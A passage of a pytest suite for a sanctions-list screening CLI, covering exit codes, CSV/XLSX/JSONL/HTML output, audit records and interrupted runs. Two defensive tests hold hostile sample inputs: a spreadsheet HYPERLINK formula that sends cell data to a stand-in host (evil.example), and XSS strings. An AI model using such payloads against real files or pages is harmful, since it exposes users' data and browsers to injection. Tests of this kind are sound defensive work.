"""Screening end to end: `screener check` and `screener batch` through the CLI and
screen.check / screen.batch, exit codes, every input and output format, the audit
record, interrupted and failed runs, and the development evaluation set."""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from cli_helpers import assert_one_line_error, run_main
from click.testing import CliRunner, Result
from excerpts import EXCERPTS

from screener.cli import cli
from screener.db import runs as audit
from screener.db.store import Store, sha256_file
from screener.errors import ListsError
from screener.files.reports import CAUTION, OUTPUT_COLUMNS
from screener.files.reports.csv import CsvWriter
from screener.screening import batch as batch_mod
from screener.screening.executors import InProcess
from screener.screening.service import Screener

ROOT = Path(__file__).parent.parent
INPUTS = ROOT / "fixtures" / "inputs"
DEV_EVAL = EXCERPTS / "dev-eval" / "surveillance_queries.csv"  # a copy of ../shared/dev-eval's
HIKVISION = "Hangzhou Hikvision Digital Technology Co., Ltd."
HIKVISION_ZH = "杭州海康威视数字技术股份有限公司"
DAHUA = "Zhejiang Dahua Technology Co., Ltd."
SHA256_RE = re.compile(r"^[0-9a-f]{64}$")
HIT_KEYS = {
    "entity_id",
    "name",
    "matched_name",
    "score",
    "source_id",
    "source_name",
    "citation",
    "listed_on",
    "source_url",
    "explanation",
}


def invoke(db: Path, *args: str) -> Result:
    """Run the click group in-process; ``return_value`` is the command's exit code."""
    return CliRunner().invoke(
        cli, ["--db", str(db), *args], standalone_mode=False, catch_exceptions=False
    )


def run_subprocess(db: Path, *args: str, entry: str = "main") -> subprocess.CompletedProcess[str]:
    """The CLI in a process of its own, through ``entry``: ``main``, or ``program`` (what
    the installed `screener` command runs)."""
    env = {**os.environ, "SCREENER_DB": str(db)}
    return subprocess.run(
        [sys.executable, "-c", f"from screener.cli import {entry}; {entry}()", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    with open(path, encoding="utf-8") as f:
        return [json.loads(line) for line in f if line.strip()]


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


# --- check ------------------------------------------------------------------------------------


def test_check_hit_table(db_path: Path) -> None:
    r = invoke(db_path, "check", "Hikvision")
    assert r.return_value == 1
    out = r.stdout
    assert f"HIT 1.00  {HIKVISION}" in out
    assert "matched name : Hikvision" in out
    assert "84 FR 54002" in out
    assert "listed 2019-10-09" in out
    assert "entry hikvision" in out
    assert "https://www.federalregister.gov/" in out
    assert "A potential match is not a determination" in out
    assert re.search(
        r"lists: screener-ownership v\d+ sha256 [0-9a-f]{12}, "
        r"screener-surveillance v\d+ sha256 [0-9a-f]{12}; run \S+",
        out,
    )


def test_check_hit_json(db_path: Path) -> None:
    r = invoke(db_path, "check", "杭州海康威視數字技術股份有限公司", "--format", "json")
    assert r.return_value == 1
    doc = json.loads(r.stdout)
    assert {"query", "hits", "lists", "run_id", "threshold"} <= doc.keys()
    assert doc["query"] == "杭州海康威視數字技術股份有限公司"
    hit = doc["hits"][0]
    assert hit.keys() >= HIT_KEYS
    assert (hit["entity_id"], hit["name"]) == ("hikvision", HIKVISION)
    assert hit["matched_name"] == HIKVISION_ZH
    assert hit["score"] == 1.0
    assert (hit["source_id"], hit["citation"], hit["listed_on"]) == (
        "screener-surveillance",
        "84 FR 54002",
        "2019-10-09",
    )
    assert hit["source_url"].startswith("https://")
    assert hit["explanation"]
    nodes, entry = doc["lists"]  # the ownership graph's nodes, then the curated list
    assert (nodes["source_id"], entry["source_id"]) == (
        "screener-ownership",
        "screener-surveillance",
    )
    assert isinstance(entry["version_id"], int)
    assert SHA256_RE.match(entry["sha256"])
    assert entry["sha256"] == sha256_file(ROOT / "lists" / "surveillance.yaml")


def test_check_clear(db_path: Path) -> None:
    r = invoke(db_path, "check", "Stanford University")
    assert r.return_value == 0
    assert "No hit at or above 0.80 for 'Stanford University'." in r.stdout
    doc = json.loads(invoke(db_path, "check", "Stanford University", "--format", "json").stdout)
    assert doc["hits"] == []
    assert [x["source_id"] for x in doc["lists"]] == ["screener-ownership", "screener-surveillance"]


def test_check_country_option(db_path: Path) -> None:
    plain = json.loads(
        invoke(db_path, "check", "Hikvison Digital Technology", "--format", "json").stdout
    )
    cn = json.loads(
        invoke(
            db_path, "check", "Hikvison Digital Technology", "--country", "CN", "--format", "json"
        ).stdout
    )
    assert cn["country"] == "CN"
    assert cn["hits"][0]["score"] > plain["hits"][0]["score"]


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ("中国", "CN"),
        ("中國", "CN"),
        ("香港", "HK"),
        ("中国香港", "HK"),
        ("澳门", "MO"),
        ("韩国", "KR"),
    ],
)
def test_countries_written_in_chinese(db_path: Path, given: str, code: str) -> None:
    doc = json.loads(
        invoke(db_path, "check", "Hikvision", "--country", given, "--format", "json").stdout
    )
    assert doc["country"] == code


def test_an_ambiguous_country_names_the_choices(db_path: Path) -> None:
    from screener.countries import AmbiguousCountry, ambiguous, to_iso2

    with pytest.raises(AmbiguousCountry) as excinfo:
        invoke(db_path, "check", "Samsung", "--country", "Korea")
    assert str(excinfo.value) == (
        "--country: 'Korea' could be North Korea (KP) or South Korea (KR): give the ISO code"
    )
    assert ambiguous("KOREA") == ("kp", "kr") and to_iso2("Korea") is None  # never a guess
    assert to_iso2("Korea, South") == "kr" and to_iso2("Republic of Korea") == "kr"


def test_check_is_recorded(store: Store) -> None:
    # the listed 14th institute itself, then CETC as the group it is a numbered unit of
    result = Screener(store).check("CETC 14")
    run = audit.run(store, result.run_id)
    assert (run["command"], run["status"], run["exit_code"], run["hits"]) == ("check", "done", 1, 2)
    assert [h["entity_id"] for h in run["hit_list"]] == ["cetc-14", "cetc"]
    assert [h.relation for h in result.hits] == ["same", "unit"]


# --- exit codes through the real entry point --------------------------------------------------


def test_main_exit_1_on_hit_in_a_real_process(db_path: Path) -> None:
    p = run_subprocess(db_path, "check", "Hikvision", "--format", "json")
    assert p.returncode == 1, p.stderr
    assert json.loads(p.stdout)["hits"][0]["entity_id"] == "hikvision"
    assert "Traceback" not in p.stderr


def test_batch_in_a_real_process_ends_with_its_output_whole_and_its_store_closed(
    db_path: Path, tmp_path: Path
) -> None:
    # the installed command ends without freeing its objects one by one (cli.program):
    # what it wrote is whole, its exit code kept, and its store closed (nothing left in
    # the write-ahead log, which a process that only drops its connections leaves behind)
    src = write_csv(
        tmp_path / "parties.csv",
        [["name"], ["Hikvision"], ["Nobody Plumbing LLC"], ["Zhejiang Dahua Technology Co Ltd"]],
    )
    out = tmp_path / "screened.csv"
    p = run_subprocess(db_path, "batch", str(src), "-o", str(out), entry="program")
    assert p.returncode == 1, p.stderr
    assert "screened 3 rows (3 unique names): 2 with hits" in p.stderr
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["name"], r["screen_status"]) for r in rows] == [
        ("Hikvision", "hit"),
        ("Nobody Plumbing LLC", "clear"),
        ("Zhejiang Dahua Technology Co Ltd", "hit"),
    ]
    assert not Path(f"{db_path}-wal").exists()


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (("check", "Hikvision", "--format", "json"), 1),
        (("check", "Nobody Plumbing LLC", "--format", "json"), 0),
        (("check", "Hikvision", "--threshold", "7"), 2),
    ],
)
def test_the_installed_command_keeps_each_exit_code_and_its_whole_output(
    db_path: Path, args: tuple[str, ...], code: int
) -> None:
    p = run_subprocess(db_path, *args, entry="program")
    assert p.returncode == code, p.stderr
    assert "Traceback" not in p.stderr
    if code == 2:
        assert_one_line_error(p.stderr, "threshold")
        return
    hits = json.loads(p.stdout)["hits"]  # the whole document, flushed before the end
    assert [h["entity_id"] for h in hits][:1] == (["hikvision"] if code == 1 else [])


def test_main_exit_3_on_unreadable_store_in_a_real_process(tmp_path: Path) -> None:
    db = tmp_path / "not-a-db.db"
    db.write_bytes(b"this is not an SQLite database\n" * 64)
    p = run_subprocess(db, "check", "Hikvision")
    assert p.returncode == 3
    assert p.stdout == ""
    assert_one_line_error(p.stderr, str(db), "cannot open the list store")


def test_main_exit_0_on_clear(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_main(
        monkeypatch, capsys, "--db", str(db_path), "check", "Pico Technology Ltd"
    )
    assert code == 0
    assert "No hit" in out
    # a fresh store holds only the bundled list: the clear result says what it does not cover
    assert err.startswith("screener: warning: these official lists were never loaded")
    assert "csl, ofac-sdn, ofac-cons" in err and len(err.splitlines()) == 1


def test_main_puts_back_the_sigterm_handler_it_found(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """main() turns SIGTERM into a clean stop while it runs (test_faults.py), and leaves
    the caller's handler in place after it, whether it exits 1 on a hit or 2 on an error."""

    def ours(signum: int, frame: object) -> None:
        raise AssertionError("not called")

    before = signal.signal(signal.SIGTERM, ours)
    try:
        code, _, _ = run_main(monkeypatch, capsys, "--db", str(db_path), "check", "Hikvision")
        assert code == 1
        assert signal.getsignal(signal.SIGTERM) is ours
        missing, out = db_path.parent / "nope.csv", db_path.parent / "out.csv"
        args = ("--db", str(db_path), "batch", str(missing), "-o", str(out))
        code, _, err = run_main(monkeypatch, capsys, *args)
        assert code == 2 and err.startswith("screener: error: ")
        assert signal.getsignal(signal.SIGTERM) is ours
    finally:
        signal.signal(signal.SIGTERM, before)


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["check", "--bogus", "Hikvision"], id="unknown-option"),
        pytest.param(["check", "Hikvision", "--threshold", "5"], id="threshold-out-of-range"),
        pytest.param(["check", "Hikvision", "--format", "xml"], id="bad-format"),
        pytest.param(["check"], id="missing-name"),
    ],
)
def test_main_exit_2_on_bad_option(
    db_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
) -> None:
    code, _out, err = run_main(monkeypatch, capsys, "--db", str(db_path), *args)
    assert code == 2
    assert "Traceback" not in err
    # click's usage error, as every other error: one "screener: error: ..." line
    assert_one_line_error(err)


def test_main_exit_2_on_missing_input(
    db_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    missing = tmp_path / "partners.csv"
    code, _out, err = run_main(
        monkeypatch,
        capsys,
        "--db",
        str(db_path),
        "batch",
        str(missing),
        "-o",
        str(tmp_path / "out.csv"),
    )
    assert code == 2
    assert_one_line_error(err, str(missing), "no such file")
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        pytest.param(
            "partners.xlsx",
            b"PK\x03\x04 not really a zip" * 20,
            ["not a readable Excel workbook"],
            id="corrupt-xlsx",
        ),
        pytest.param("partners.csv", bytes(range(256)) * 20, ["binary"], id="binary-csv"),
        pytest.param("partners.pdf", b"%PDF-1.4", ["unknown file type"], id="unknown-type"),
    ],
)
def test_main_exit_2_on_unreadable_input(
    db_path: Path,
    tmp_path: Path,
    name: str,
    data: bytes,
    words: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    bad = tmp_path / name
    bad.write_bytes(data)
    code, _out, err = run_main(
        monkeypatch,
        capsys,
        "--db",
        str(db_path),
        "batch",
        str(bad),
        "-o",
        str(tmp_path / "out.csv"),
    )
    assert code == 2
    assert_one_line_error(err, str(bad), *words)


def test_main_exit_2_on_unknown_output_type(
    db_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    src = write_csv(tmp_path / "in.csv", [["name"], ["Hikvision"]])
    code, _out, err = run_main(
        monkeypatch,
        capsys,
        "--db",
        str(db_path),
        "batch",
        str(src),
        "-o",
        str(tmp_path / "out.txt"),
    )
    assert code == 2
    assert_one_line_error(err, "out.txt")


def test_main_db_directory_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # --db is a click.Path(dir_okay=False): a directory is refused as a bad option (2),
    # before any store is opened.
    code, _out, err = run_main(monkeypatch, capsys, "--db", str(tmp_path), "check", "Hikvision")
    assert code == 2
    assert "Traceback" not in err
    assert "is a directory" in err


def test_main_exit_3_on_garbage_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "s.db"
    db.write_bytes(b"\x00garbage" * 512)
    code, _out, err = run_main(monkeypatch, capsys, "--db", str(db), "check", "Hikvision")
    assert code == 3
    assert_one_line_error(err, "cannot open the list store")


def test_check_without_lists_fails_closed(tmp_path: Path) -> None:
    empty = Store(tmp_path / "empty.db")  # no bundled lists loaded
    try:
        with pytest.raises(ListsError) as exc:
            Screener(empty).check("Hikvision")
        assert exc.value.exit_code == 3
        assert "no lists loaded" in str(exc.value)
        with pytest.raises(ListsError):
            Screener(empty).batch(INPUTS / "partners_gbk.csv", tmp_path / "out.csv", workers=1)
        assert not (tmp_path / "out.csv").exists()
    finally:
        empty.close()


def make_stale(db: Path) -> None:
    s = Store(db)
    with s.conn:
        s.conn.execute("update versions set loaded_at = '2000-01-01T00:00:00Z'")
    s.close()


def test_stale_lists_exit_3_with_fail_stale(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make_stale(db_path)
    code, out, err = run_main(
        monkeypatch, capsys, "--db", str(db_path), "check", "--fail-stale", "Hikvision"
    )
    assert code == 3
    assert out == ""
    assert_one_line_error(err, "screener-surveillance", "days old")


def test_stale_lists_only_warn_by_default(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make_stale(db_path)
    code, out, err = run_main(monkeypatch, capsys, "--db", str(db_path), "check", "Hikvision")
    assert code == 1
    assert "HIT" in out
    assert err.startswith("screener: warning: list screener-surveillance is")


def test_stale_lists_exit_3_from_config(
    db_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    make_stale(db_path)
    config = tmp_path / "config.toml"
    config.write_text("fail_stale = true\n", encoding="utf-8")
    monkeypatch.setenv("SCREENER_CONFIG", str(config))
    code, _out, _err = run_main(monkeypatch, capsys, "--db", str(db_path), "check", "Hikvision")
    assert code == 3


# --- batch: every input format to every output format -----------------------------------------


def jsonl_input(tmp_path: Path) -> Path:
    path = tmp_path / "partners.jsonl"
    rows = [
        {"name": HIKVISION, "country": "CN", "note": "video"},
        {"name": "Stanford University", "country": "US", "note": ""},
        {"name": "CETC No. 14", "country": "CN", "note": "radar"},
    ]
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    return path


def utf8_input(tmp_path: Path) -> Path:
    return write_csv(
        tmp_path / "partners.csv",
        [
            ["Company", "Country", "Since"],
            ["Hik-Vision", "CN", "2019"],
            ["University of Melbourne", "AU", "2020"],
            ["SenseTime Group Inc.", "", "2021"],
        ],
    )


# name -> (make input, extra CLI options, input columns, queries in order, rows expected to
# hit, rows expected clear). 北京大学 (Peking University) is left out of both: it hits Sichuan
# and Tianjin University at 1.0, a bug covered in test_match.py.
Case = tuple[Callable[[Path], Path], list[str], list[str], list[str], list[int], list[int]]
INPUT_CASES: dict[str, Case] = {
    "csv-utf8": (
        utf8_input,
        [],
        ["Company", "Country", "Since"],
        ["Hik-Vision", "University of Melbourne", "SenseTime Group Inc."],
        [0, 2],
        [1],
    ),
    "csv-gbk": (
        lambda _: INPUTS / "partners_gbk.csv",
        [],
        ["公司名称", "国家", "备注"],
        [HIKVISION_ZH, "浙江大华技术股份有限公司", "科大讯飞股份有限公司", DAHUA, "清华大学"],
        [0, 1, 2, 3],
        [4],
    ),
    "csv-utf16": (
        lambda _: INPUTS / "funders_utf16.csv",
        [],
        ["Funder", "Country", "Amount"],
        ["Stanford University", "Société Générale", HIKVISION, "北京大学"],
        [2],
        [0, 1],
    ),
    "xlsx-sheet": (
        lambda _: INPUTS / "partners.xlsx",
        ["--sheet", "Partners"],
        ["Company Name", "Country", "Since"],
        [HIKVISION_ZH, DAHUA, "Stanford University"],
        [0, 1],
        [2],
    ),
    "jsonl": (
        jsonl_input,
        [],
        ["name", "country", "note"],
        [HIKVISION, "Stanford University", "CETC No. 14"],
        [0, 2],
        [1],
    ),
}
# The row numbers the outputs show: as the input spreadsheet numbers them (the header is row 1;
# partners.xlsx has a blank row 4), or from 1 for JSON Lines records.
INPUT_ROWS = {
    "csv-utf8": [2, 3, 4],
    "csv-gbk": [2, 3, 4, 5, 6],
    "csv-utf16": [2, 3, 4, 5],
    "xlsx-sheet": [2, 3, 5],
    "jsonl": [1, 2, 3],
}


def check_statuses(status: list[str], hit_rows: list[int], clear_rows: list[int]) -> None:
    assert [status[i] for i in hit_rows] == ["hit"] * len(hit_rows), status
    assert [status[i] for i in clear_rows] == ["clear"] * len(clear_rows), status


@pytest.mark.parametrize("out_ext", ["csv", "jsonl", "xlsx", "html"])
@pytest.mark.parametrize("case", list(INPUT_CASES))
def test_batch_formats(db_path: Path, tmp_path: Path, case: str, out_ext: str) -> None:
    make, opts, columns, queries, hit_rows, clear_rows = INPUT_CASES[case]
    src = make(tmp_path)
    out = tmp_path / f"screened.{out_ext}"
    r = invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1", *opts)
    assert r.return_value == 1
    assert f"screened {len(queries)} rows" in r.stderr
    assert out.exists()
    assert not list(tmp_path.glob(".*.tmp"))
    run_id = re.search(r"\(run (\S+)\)", r.stderr).group(1)  # type: ignore[union-attr]

    if out_ext == "csv":
        rows = read_csv(out)
        assert rows[0] == columns + OUTPUT_COLUMNS
        assert [row[0] for row in rows[1:]] == queries  # the name column comes first
        check_statuses([row[len(columns)] for row in rows[1:]], hit_rows, clear_rows)
        at = rows[0].index("screen_input_row")
        assert [row[at] for row in rows[1:]] == [str(n) for n in INPUT_ROWS[case]]
    elif out_ext == "jsonl":
        rows = read_jsonl(out)
        assert [r["row"] for r in rows] == INPUT_ROWS[case]
        assert [r["query"] for r in rows] == queries
        check_statuses([r["status"] for r in rows], hit_rows, clear_rows)
        assert all({"row", "query", "hits", "status"} <= r.keys() for r in rows)
    elif out_ext == "xlsx":
        wb = openpyxl.load_workbook(out, read_only=True)
        try:
            assert wb.sheetnames == ["results", "about"]
            values = [list(row) for row in wb["results"].iter_rows(values_only=True)]
        finally:
            wb.close()
        assert values[0] == columns + OUTPUT_COLUMNS
        assert [row[0] for row in values[1:]] == queries
        check_statuses([row[len(columns)] for row in values[1:]], hit_rows, clear_rows)
        at = values[0].index("screen_input_row")
        assert [row[at] for row in values[1:]] == INPUT_ROWS[case]  # numbers, not text
    else:
        text = out.read_text("utf-8")
        for i in hit_rows:
            assert f'id="row-{INPUT_ROWS[case][i]}"' in text
        assert CAUTION in text
        assert run_id in text
        assert sha256_file(ROOT / "lists" / "surveillance.yaml")[:12] in text
        assert "Content-Security-Policy" in text

    meta_path = out.with_name(out.name + ".meta.json")
    if out_ext == "html":
        assert not meta_path.exists()
    else:
        meta = json.loads(meta_path.read_text("utf-8"))
        assert meta["run_id"] == run_id
        assert meta["lists"][1]["source_id"] == "screener-surveillance"
        assert SHA256_RE.match(meta["lists"][1]["sha256"])
        assert meta["input"]["sha256"] == sha256_file(src)
        assert meta["output"]["sha256"] == sha256_file(out)
        assert meta["summary"]["rows"] == len(queries)
        assert meta["summary"]["hit_rows"] >= len(hit_rows)


def test_batch_csv_keeps_every_input_cell(db_path: Path, tmp_path: Path) -> None:
    src = utf8_input(tmp_path)
    out = tmp_path / "out.csv"
    invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1")
    rows = read_csv(out)
    assert [row[:3] for row in rows] == read_csv(src)
    top = dict(zip(rows[0], rows[1]))
    assert top["screen_status"] == "hit"
    assert top["screen_top_name"] == HIKVISION
    assert top["screen_top_matched_name"] == "HIK Vision"
    assert top["screen_citation"] == "84 FR 54002"
    assert float(top["screen_top_score"]) >= 0.8
    assert dict(zip(rows[0], rows[2]))["screen_status"] == "clear"


def test_batch_all_clear_exits_0(db_path: Path, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv", [["name"], ["Stanford University"], ["University of Melbourne"]]
    )
    r = invoke(db_path, "batch", str(src), "-o", str(tmp_path / "out.jsonl"), "--workers", "1")
    assert r.return_value == 0
    assert [row["status"] for row in read_jsonl(tmp_path / "out.jsonl")] == ["clear", "clear"]


def test_batch_empty_cells_are_skipped(store: Store, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        [
            ["name", "country"],
            ["Hikvision", "CN"],
            ["", "CN"],
            ["   ", "US"],
            ["Stanford University", "US"],
        ],
    )
    s = Screener(store).batch(src, tmp_path / "out.jsonl", workers=1)
    assert (s.rows, s.hit_rows, s.clear, s.skipped) == (4, 1, 1, 2)
    rows = read_jsonl(tmp_path / "out.jsonl")
    assert [r["status"] for r in rows] == ["hit", "skipped", "skipped", "clear"]
    assert rows[1]["reason"] == "empty name"
    assert rows[1]["hits"] == []


def test_batch_csv_neutralizes_formulas(db_path: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Hikvision")'
    src = write_csv(tmp_path / "in.csv", [["name", "note"], [formula, "+1+1"], ["@SUM(A1)", "-2"]])
    out = tmp_path / "out.csv"
    invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1")
    rows = read_csv(out)
    assert rows[1][:2] == ["'" + formula, "'+1+1"]
    assert rows[2][:2] == ["'@SUM(A1)", "'-2"]
    # the query itself is screened unchanged
    assert read_jsonl_via_batch(db_path, src, tmp_path)[0]["query"] == formula


def read_jsonl_via_batch(db: Path, src: Path, tmp_path: Path) -> list[dict[str, Any]]:
    out = tmp_path / "again.jsonl"
    invoke(db, "batch", str(src), "-o", str(out), "--workers", "1")
    return read_jsonl(out)


def test_batch_xlsx_neutralizes_formulas(db_path: Path, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", [["name"], ["=1+1"], ["Hikvision"]])
    out = tmp_path / "out.xlsx"
    invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1")
    wb = openpyxl.load_workbook(out)
    try:
        assert wb["results"]["A2"].value == "'=1+1"
        assert wb["results"]["A2"].data_type == "s"
    finally:
        wb.close()


def test_batch_html_escapes_script(db_path: Path, tmp_path: Path) -> None:
    evil = "Hikvision <script>alert('x')</script>"
    src = write_csv(tmp_path / "in.csv", [["name", "note"], [evil, "<img src=x onerror=alert(1)>"]])
    out = tmp_path / "report.html"
    r = invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1", "--threshold", "0.2")
    assert r.return_value == 1  # a low threshold, so that the row is shown with its hit
    text = out.read_text("utf-8")
    assert "<script" not in text.lower()
    assert "<img" not in text
    assert "Hikvision &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text


def test_batch_parallel_workers_give_the_same_results(store: Store, tmp_path: Path) -> None:
    names = [
        f"Supplier {i} Hikvision" if i % 97 == 0 else f"Vendor {i} Trading Ltd" for i in range(900)
    ]
    names += ["Hikvision", "CETC 14", "海康威视"]
    src = write_csv(tmp_path / "in.csv", [["name"], *([n] for n in names)])
    one = Screener(store).batch(src, tmp_path / "one.jsonl", workers=1)
    two = Screener(store).batch(src, tmp_path / "two.jsonl", workers=2)
    assert (one.rows, one.hit_rows, one.hits) == (two.rows, two.hit_rows, two.hits)
    assert read_jsonl(tmp_path / "one.jsonl") == read_jsonl(tmp_path / "two.jsonl")
    assert one.hit_rows >= 3


# --- the audit record -------------------------------------------------------------------------


def test_runs_are_recorded_and_shown(db_path: Path, tmp_path: Path) -> None:
    src = INPUTS / "partners_gbk.csv"
    out = tmp_path / "out.jsonl"
    r = invoke(db_path, "batch", str(src), "-o", str(out), "--workers", "1")
    run_id = re.search(r"\(run (\S+)\)", r.stderr).group(1)  # type: ignore[union-attr]
    invoke(db_path, "check", "Stanford University")

    runs = json.loads(invoke(db_path, "runs", "--format", "json").stdout)
    assert sorted(x["command"] for x in runs) == ["batch", "check"]
    [batch_run] = [x for x in runs if x["id"] == run_id]
    assert batch_run["command"] == "batch"
    assert (batch_run["status"], batch_run["exit_code"], batch_run["rows"]) == ("done", 1, 5)

    shown = json.loads(invoke(db_path, "runs", "show", run_id).stdout)
    assert shown["input_sha256"] == sha256_file(src)
    assert shown["input_path"] == str(src)
    assert shown["output_path"] == str(out)
    assert shown["lists"][1]["sha256"] == sha256_file(ROOT / "lists" / "surveillance.yaml")
    assert shown["hit_rows"] == 4
    # Listed hits; the ownership graph's nodes (unlisted subsidiaries) are left to its stage.
    listed = [h for h in shown["hit_list"] if h["source_id"] != "screener-ownership"]
    hits = [(h["row"], h["entity_id"]) for h in listed]
    assert hits == [(0, "hikvision"), (1, "dahua"), (2, "iflytek"), (3, "dahua")]
    assert {h["citation"] for h in listed} == {"84 FR 54002"}

    short = json.loads(invoke(db_path, "runs", "show", run_id[:20]).stdout)
    assert short["id"] == run_id
    table = invoke(db_path, "runs", "show", run_id, "--format", "table").stdout
    assert sha256_file(src) in table


def test_runs_list_newest_first_within_one_second(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit, "now_iso", lambda: "2026-01-01T00:00:00Z")
    lists = Screener(store).lists()
    started = [audit.start_run(store, "check", {"n": i}, lists, 0.8) for i in range(8)]
    assert [r["id"] for r in audit.runs(store, 8)] == started[::-1]


def test_runs_show_unknown_id_is_an_input_error(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _out, err = run_main(monkeypatch, capsys, "--db", str(db_path), "runs", "show", "nope")
    assert code == 2
    assert_one_line_error(err, "no run with id nope")


# --- interrupted and failed runs --------------------------------------------------------------

ORIGINAL = b"previous output, must survive\r\n"


def many_rows(tmp_path: Path) -> Path:
    """A small input in its own folder ``io`` (the database lives in tmp_path)."""
    (tmp_path / "io").mkdir()
    return write_csv(
        tmp_path / "io" / "in.csv",
        [
            ["name"],
            ["Hikvision"],
            ["Stanford University"],
            ["CETC 14"],
            ["Dahua"],
            ["SenseTime"],
            ["Pico"],
        ],
    )


def last_run(store: Store) -> dict[str, Any]:
    return audit.runs(store, 1)[0]


@pytest.mark.parametrize("out_ext", ["csv", "xlsx", "html", "jsonl"])
def test_interrupted_run_keeps_previous_output(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out_ext: str
) -> None:
    src = many_rows(tmp_path)
    out = src.with_name(f"out.{out_ext}")
    out.write_bytes(ORIGINAL)
    monkeypatch.setattr(batch_mod, "CHUNK_ROWS", 2)
    real = InProcess.result
    calls = []

    def interrupt_second_chunk(self: InProcess, items: Any) -> Any:
        calls.append(len(items))
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(self, items)

    monkeypatch.setattr(InProcess, "result", interrupt_second_chunk)
    with pytest.raises(KeyboardInterrupt):
        Screener(store).batch(src, out, workers=1)
    assert len(calls) == 2  # the first chunk was screened and written
    assert out.read_bytes() == ORIGINAL
    assert sorted(p.name for p in src.parent.iterdir()) == ["in.csv", out.name]
    run = last_run(store)
    assert (run["status"], run["exit_code"], run["rows"]) == ("interrupted", 130, 2)
    assert run["output_path"] == str(out)


def test_interrupted_run_leaves_no_output(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = many_rows(tmp_path)
    out = src.with_name("out.csv")

    def interrupt(self: InProcess, items: Any) -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(InProcess, "result", interrupt)
    with pytest.raises(KeyboardInterrupt):
        Screener(store).batch(src, out, workers=1)
    assert sorted(p.name for p in src.parent.iterdir()) == ["in.csv"]
    assert last_run(store)["status"] == "interrupted"


def test_interrupted_run_through_main_exits_130(
    db_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    src = many_rows(tmp_path)

    def interrupt(self: InProcess, items: Any) -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(InProcess, "result", interrupt)
    code, _out, err = run_main(
        monkeypatch,
        capsys,
        "--db",
        str(db_path),
        "batch",
        str(src),
        "-o",
        str(src.with_name("out.csv")),
        "--workers",
        "1",
    )
    assert code == 130
    assert "Traceback" not in err
    assert "interrupted" in err
    assert sorted(p.name for p in src.parent.iterdir()) == ["in.csv"]


def test_failed_run_keeps_previous_output(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = many_rows(tmp_path)
    out = src.with_name("out.csv")
    out.write_bytes(ORIGINAL)
    meta = out.with_name(out.name + ".meta.json")
    meta.write_bytes(b"{}")
    monkeypatch.setattr(batch_mod, "CHUNK_ROWS", 2)
    real = CsvWriter._write
    calls = []

    def fail_second_chunk(self: CsvWriter, df: Any, results: Any) -> None:
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device", str(self.path))
        real(self, df, results)

    monkeypatch.setattr(CsvWriter, "_write", fail_second_chunk)
    with pytest.raises(OSError):
        Screener(store).batch(src, out, workers=1)
    assert out.read_bytes() == ORIGINAL
    assert meta.read_bytes() == b"{}"
    assert sorted(p.name for p in src.parent.iterdir()) == ["in.csv", out.name, meta.name]
    run = last_run(store)
    assert (run["status"], run["exit_code"]) == ("failed", 2)


def test_failed_run_through_main_is_one_line(
